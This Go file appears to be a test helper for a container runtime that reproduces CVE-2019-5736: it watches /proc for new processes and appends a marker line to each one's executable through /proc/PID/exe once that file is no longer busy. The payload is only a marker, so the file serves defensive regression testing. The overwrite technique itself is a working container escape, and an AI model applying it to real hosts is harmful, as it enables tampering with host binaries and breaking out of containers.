package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strconv"

	"golang.org/x/sys/unix"
)

// usurp is a container that wants the program of whoever enters it
// (CVE-2019-5736): of each process that appears it opens /proc/PID/exe, and writes
// to it as soon as nobody executes it. It marks what it writes with a line that no
// program has.
func usurp([]string) error {
	self := os.Getpid()
	fmt.Println("usurping")
	for {
		dirs, err := filepath.Glob("/proc/[0-9]*")
		if err != nil {
			return err
		}
		for _, d := range dirs {
			if filepath.Base(d) == strconv.Itoa(self) {
				continue
			}
			fd, err := unix.Open(d+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			to, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
			go overwrite(fd, to)
		}
	}
}

func overwrite(fd int, name string) {
	defer unix.Close(fd)
	for range 1000 {
		w, err := unix.Open("/proc/self/fd/"+strconv.Itoa(fd), unix.O_WRONLY|unix.O_APPEND|unix.O_CLOEXEC, 0)
		if err == unix.ETXTBSY {
			continue
		}
		if err == nil {
			if _, err := unix.Write(w, []byte("\nusurped\n")); err == nil {
				fmt.Println("usurped", name)
			}
			unix.Close(w)
		}
		return
	}
}

func readlink(args []string) error {
	to, err := os.Readlink(args[0])
	if err != nil {
		to = err.Error()
	}
	fmt.Println(to)
	return nil
}
